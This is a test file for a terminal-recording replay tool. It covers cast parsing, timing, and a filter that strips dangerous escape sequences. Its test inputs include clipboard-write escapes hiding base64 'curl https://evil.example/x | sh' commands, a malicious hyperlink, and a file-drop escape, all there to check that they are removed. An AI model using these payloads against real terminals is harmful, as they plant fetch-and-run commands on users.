// `entryway replay`: the cast reader and its timing, and in tmux (a real terminal) a session entered
// with `entryway enter` through a recording gateway on podman, then replayed from the file and by
// id from the gateway: the replayed screen (text and colours) equals the one the session left.
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCast, playbackTimes, type CastEvent } from "../../src/recordings/cast.js";
import { onlyAllowedSequences, withoutTerminalQueries } from "../../src/recordings/terminal.js";
import { recordingUrl } from "../../src/cli/replay.js";
import { tokenAuthorizer } from "../../../testkit/gateway/gateway.js";
import { describeNeeding } from "../../../testkit/gateway/tools.js";
import { podmanAvailable, startClientBed, type ClientBed } from "./bed.js";
import {
  cleanEnv,
  cliCommand,
  runCli,
  startTmux,
  tmuxAvailable,
  type Tmux,
} from "../../../testkit/gateway/cli-harness.js";

const shellQuote = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

describe("asciicast reading and timing", () => {
  const cast = [
    '{"version": 2, "width": 80, "height": 24}',
    '[0.5, "o", "a"]',
    '[1.5, "r", "100x30"]',
    '[11.5, "o", "b"]',
    "",
  ].join("\n");

  it("reads the header and events, and times them by speed and idle limit", () => {
    const parsed = parseCast(cast);
    expect(parsed.header).toMatchObject({ width: 80, height: 24 });
    expect(parsed.events.map((e) => e.code)).toEqual(["o", "r", "o"]);
    expect(parsed.duration).toBe(11.5);
    expect(playbackTimes(parsed.events, 1)).toEqual([0.5, 1.5, 11.5]);
    expect(playbackTimes(parsed.events, 2)).toEqual([0.25, 0.75, 5.75]);
    expect(playbackTimes(parsed.events, 1, 2)).toEqual([0.5, 1.5, 3.5]);
  });

  it.each([
    ["", /first line/],
    ['{"version": 1, "width": 80, "height": 24}', /not an asciicast v2/],
    ['{"version": 2}', /width and height/],
    ['{"version": 2, "width": 80, "height": 24}\n[1, "o"]', /line 2/],
  ])("refuses %j", (text, message) => {
    expect(() => parseCast(text)).toThrow(message);
  });

  it("takes out the terminal queries a replay would make the local terminal answer, and keeps everything else", () => {
    const output = (...data: string[]): CastEvent[] => data.map((d, i) => ({ time: i, code: "o", data: d }));
    const played = (events: CastEvent[]) =>
      withoutTerminalQueries(events)
        .filter((e) => e.code === "o")
        .map((e) => e.data)
        .join("");
    // Cursor position and device status, device attributes, a window report, a colour and a clipboard query.
    expect(
      played(output("/ # \u001b[6n", "ls\u001b[c\u001b[>0c\u001b[18t\u001b]11;?\u0007\u001b]52;c;?\u001b\\ done")),
    ).toBe("/ # ls done");
    // A query cut between two events is still found, and the events keep their order and times.
    const split = withoutTerminalQueries(output("a\u001b[", "6nb", "\u001b]1", "0;?\u0007c"));
    expect(split.map((e) => e.data)).toEqual(["a", "b", "", "c"]);
    // Colours, cursor moves, titles and resizes stay.
    const kept = "\u001b[1;33mx\u001b[0m\u001b[6;5H\u001b]0;title\u0007\u001b[2J\u001b[?25l";
    expect(played(output(kept.slice(0, 7), kept.slice(7)))).toBe(kept);
    expect(withoutTerminalQueries([{ time: 0, code: "r", data: "80x24" }])).toEqual([
      { time: 0, code: "r", data: "80x24" },
    ]);
  });

  it("writes only drawing into the reviewer's terminal: clipboard, title, links, fonts, files, DCS, queries and mode changes are dropped", () => {
    const played = (...data: string[]) =>
      onlyAllowedSequences(data.map((d, i) => ({ time: i, code: "o", data: d }))).map((e) => e.data);
    // Kept as recorded: SGR (24-bit too), cursor movement, erasing, the alternate screen, cursor
    // visibility, the DEC line-drawing charset and its end, save/restore cursor, reverse index,
    // a scroll region, scrolling, bracketed paste off, and the plain controls.
    const drawing =
      "\u001b[1;38;2;255;0;0mred\u001b[0m\u001b[6;5H\u001b[2J\u001b[K\u001b[?1049h\u001b[?25l\u001b(0qq\u001b(B\u001b7\u001b8\u001bM\u001b[3;20r\u001b[2S\u001b[?2004l\r\n\tx\b你😀";
    expect(played(drawing).join("")).toBe(drawing);
    const hostile: [string, string][] = [
      ["\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\u0007", ""], // clipboard write (OSC 52), BEL-terminated
      ["\u001b]52;p;Y3VybA==\u001b\\", ""], // ... and ST-terminated
      ["\u001b]0;owned\u0007\u001b]2;owned\u001b\\", ""], // titles
      ["\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007", "click"], // OSC 8: the text stays, the link goes
      ["\u001b]50;xft:evil\u0007", ""], // font
      [`\u001b]1337;File=name=eC5iYXQ=;inline=0:${"QUFB".repeat(500)}\u0007`, ""], // iTerm2 file transfer
      ["\u001bP+q544e\u001b\\\u001b_apc\u001b\\\u001b^pm\u001b\\\u001bXsos\u001b\\", ""], // DCS, APC, PM, SOS
      ["\u001b[6n\u001b[c\u001b[>0c\u001b[18t\u001b[22;0t\u001b[8;100;100t", ""], // queries, title stack, window resize
      ["\u001b[?1000h\u001b[?1006h\u001b[?1h\u001b[?2004h\u001b[?1004h\u001b[>4;1m\u001b[2 q\u001b[5u", ""], // mouse, keys, bracketed paste on, focus, cursor style, keyboard protocol
      ["\u001bc\u001b=\u001b%@\u001b#8\u001bZ", ""], // reset, keypad, leaving UTF-8, screen alignment, identify
      ["\u0005\u0000\u007f\u009b31m\u009d0;t\u009c", "31m0;t"], // ENQ (answerback), NUL, DEL, C1 controls (the rest is text)
      ["\u001b[?1049;1000h", "\u001b[?1049h"], // a set that mixes allowed and dropped modes keeps the allowed ones
    ];
    for (const [input, kept] of hostile) expect(played(`a${input}b`).join(""), JSON.stringify(input)).toBe(`a${kept}b`);
    // Cut anywhere between events, a sequence is still recognised; events keep their number and times.
    const osc = "\u001b]52;c;Y3VybA==\u0007";
    for (let cut = 1; cut < osc.length; cut++)
      expect(played(`x${osc.slice(0, cut)}`, `${osc.slice(cut)}y`), String(cut)).toEqual(["x", "y"]);
    expect(played("\u001b", "[31mred")).toEqual(["", "\u001b[31mred"]);
    expect(played("\u001b]1337;File=:", "QUFB".repeat(1000), "QUFB\u0007done")).toEqual(["", "", "done"]);
    expect(onlyAllowedSequences([{ time: 0, code: "r", data: "80x24" }])).toEqual([
      { time: 0, code: "r", data: "80x24" },
    ]);
  });

  it("replays a hostile recording without its clipboard, title and file escapes; --raw writes them, with a warning", async () => {
    const home = mkdtempSync(join(tmpdir(), "entryway-replay-raw-"));
    try {
      const file = join(home, "hostile.cast");
      const escapes =
        "\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b]0;owned\u0007\u001b]1337;File=name=eC5iYXQ=:QUFB\u0007";
      const events = [
        [0.01, "o", `before ${escapes}`],
        [0.02, "o", "\u001b[1mafter\u001b[0m"],
      ];
      writeFileSync(
        file,
        [JSON.stringify({ version: 2, width: 80, height: 24 }), ...events.map((e) => JSON.stringify(e)), ""].join("\n"),
      );
      const env = cleanEnv(home);
      const safe = await runCli(["replay", file], { env });
      expect(safe).toMatchObject({ code: 0, stdout: "before \u001b[1mafter\u001b[0m", stderr: "" });
      const raw = await runCli(["replay", "--raw", file], { env });
      expect(raw).toMatchObject({ code: 0, stdout: `before ${escapes}\u001b[1mafter\u001b[0m` });
      expect(raw.stderr).toMatch(/^entryway: warning: --raw writes the recording's escape sequences as recorded/);
    } finally {
      rmSync(home, { recursive: true, force: true });
    }
  });

  it("fetches ids over https, or plain http only from loopback", () => {
    expect(recordingUrl("https://gw.example/v1/enter", "x").href).toBe("https://gw.example/v1/recordings/x");
    expect(recordingUrl("ws://127.0.0.1:8080", "x").href).toBe("http://127.0.0.1:8080/v1/recordings/x");
    expect(() => recordingUrl("http://gw.example", "x")).toThrow(/unencrypted/);
  });
});

describeNeeding(
  { podman: podmanAvailable(), tmux: tmuxAvailable() },
  "entryway replay in tmux against a recording gateway on podman",
  () => {
    let bed: ClientBed;
    let home: string;
    let recordDir: string;
    let tmux: Tmux;

    beforeAll(async () => {
      home = mkdtempSync(join(tmpdir(), "entryway-replay-home-"));
      recordDir = join(home, "casts");
      bed = await startClientBed("replay-box", {
        authorizer: tokenAuthorizer(),
        overrides: { recordDir, reviewerGroups: ["auditors"] },
      });
      // The windows get the gateway and a reviewer's token from the tmux server's environment.
      tmux = await startTmux(
        cleanEnv(home, { ENTRYWAY_GATEWAY: bed.base, ENTRYWAY_TOKEN: "user:rita:auditors" }),
        100,
        30,
      );
    });
    afterAll(async () => {
      await tmux?.stop();
      await bed?.stop();
      if (home) rmSync(home, { recursive: true, force: true });
    });

    /** A window of its own running `command` (then idling, so its screen stays as the command left it). */
    const window = async (name: string, command: string[]) => {
      await tmux.tmux("new-window", "-d", "-t", "cli", "-n", name, `${command.map(shellQuote).join(" ")}; sleep 600`);
    };
    const screen = (name: string) => tmux.tmux("capture-pane", "-p", "-e", "-t", `cli:${name}`);
    const waitForScreen = async (name: string, pattern: RegExp) => {
      for (const deadline = Date.now() + 60_000; Date.now() < deadline; await new Promise((r) => setTimeout(r, 100))) {
        if (pattern.test(await screen(name))) return;
      }
      throw new Error(`timed out waiting for ${pattern} in window ${name}:\n${await screen(name)}`);
    };

    it("replays a recorded session to the same screen, from the file and by id, and refuses non-reviewers", async () => {
      await window("session", cliCommand("enter", bed.container));
      await waitForScreen("session", /^\/ #\s*$/m);
      const typed = async (text: string) => {
        await tmux.tmux("send-keys", "-t", "cli:session", "-l", text);
        await tmux.tmux("send-keys", "-t", "cli:session", "Enter");
      };
      await typed(
        `printf '\\033[1;33mbold yellow\\033[0m 你好 😀 \\033[44mblue\\033[0m\\n'; ls /; echo cols=$(stty size)`,
      );
      await waitForScreen("session", /cols=30 100/);
      await typed("exit 0");
      await expect.poll(() => bed.audit.some((e) => e.event === "session.end"), { timeout: 30_000 }).toBe(true);
      const recorded = await screen("session");
      expect(recorded).toContain("\u001b[1m\u001b[33mbold yellow"); // tmux's own rendering of bold yellow

      const [file] = readdirSync(recordDir);
      const id = file!.replace(/\.cast$/, "");
      await window("from-file", cliCommand("replay", "--speed", "5", join(recordDir, file!)));
      await window("by-id", cliCommand("replay", "--max-idle", "0.2", id));
      await expect.poll(() => screen("from-file"), { timeout: 60_000 }).toBe(recorded);
      await expect.poll(() => screen("by-id"), { timeout: 60_000 }).toBe(recorded);

      const env = cleanEnv(home, { ENTRYWAY_GATEWAY: bed.base, ENTRYWAY_TOKEN: "user:alice" });
      const refused = await runCli(["replay", id], { env });
      expect(refused).toMatchObject({ code: 77, stdout: "" });
      expect(refused.stderr).toMatch(/^entryway: permission denied: the gateway answered HTTP 403/);
      const missing = await runCli(["replay", "2026-01-02T03-04-05-678Z-00000000-0000-4000-8000-000000000009"], {
        env: { ...env, ENTRYWAY_TOKEN: "user:rita:auditors" },
      });
      expect(missing.code).toBe(66);
    });
  },
);
